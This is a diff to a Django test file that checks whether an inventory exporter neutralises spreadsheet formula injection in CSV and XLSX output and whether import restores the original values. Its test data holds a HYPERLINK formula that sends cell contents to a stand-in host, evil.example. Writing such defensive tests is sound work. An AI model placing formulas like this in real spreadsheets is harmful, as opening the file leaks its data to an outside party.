@@ -1,5 +1,6 @@
 """Export writes exactly the import format: importing an export changes nothing; queries do not grow with rows."""
 
+import csv
 import io
 import zipfile
 from pathlib import Path
@@ -11,6 +12,7 @@ from django.core.management import call_command
 from systems.inventory import exporter
 from systems.inventory.importer import Importer
 from systems.inventory.readers import Source
+from systems.inventory.schema import formula_safe, unescape_cell
 from systems.models import System
 from tests.factories import SystemContactFactory, SystemFactory, VMFactory
 
@@ -65,13 +67,38 @@ def test_export_into_an_empty_database_recreates_the_inventory(tmp_path, django_
         assert (after / path.name).read_text() == path.read_text(), path.name
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klikk")', "+47 22 00 00 00", "-1+1", "@SUM(A1)", "'", "'=1"]
+
+
+def test_formula_safe_prefixes_every_start_a_spreadsheet_runs():
+    for start in ("=", "+", "-", "@", "\t", "\r", "'"):
+        assert formula_safe(f"{start}x") == f"'{start}x"
+        assert unescape_cell(formula_safe(f"{start}x")) == f"{start}x"
+    assert formula_safe("Sakarkiv") == "Sakarkiv"
+    assert unescape_cell("'Sakarkiv") == "'Sakarkiv", "an apostrophe a user typed stays"
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_export_csv_neutralises_formulas_and_import_restores_them(tmp_path, formula):
+    SystemFactory(code="S1", name=formula, description=f"'{formula}")
+    exporter.export_directory(tmp_path)
+    header, row = csv.reader(io.StringIO((tmp_path / "systems.csv").read_text()))
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["name"], cells["description"]) == (f"'{formula}", f"''{formula}")
+    System.objects.all().delete()
+    result = Importer().run([Source.from_path(path) for path in sorted(tmp_path.iterdir())])
+    assert result.ok, errors(result)
+    system = System.objects.get(code="S1")
+    assert (system.name, system.description) == (formula, f"'{formula}")
+
+
 def test_export_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
     system = SystemFactory(code="S1", name='=HYPERLINK("http://evil.example","Klikk")')
     VMFactory(system=system, vcpus=4, memory_gb="7.25")
     [path] = exporter.export_directory(tmp_path, fmt="xlsx")
     workbook = openpyxl.load_workbook(path)
     name = workbook["systems"]["B2"]
-    assert (name.data_type, name.value) == ("s", system.name)
+    assert (name.data_type, name.value) == ("s", "'" + system.name)
     assert [cell.value for cell in workbook["vms"][2][3:6]] == [4, 7.25, 100]
     result = Importer().run([Source.from_path(path)])
     assert counts(result)["systems"] == (0, 0, 1) and counts(result)["vms"] == (0, 0, 1), errors(result)
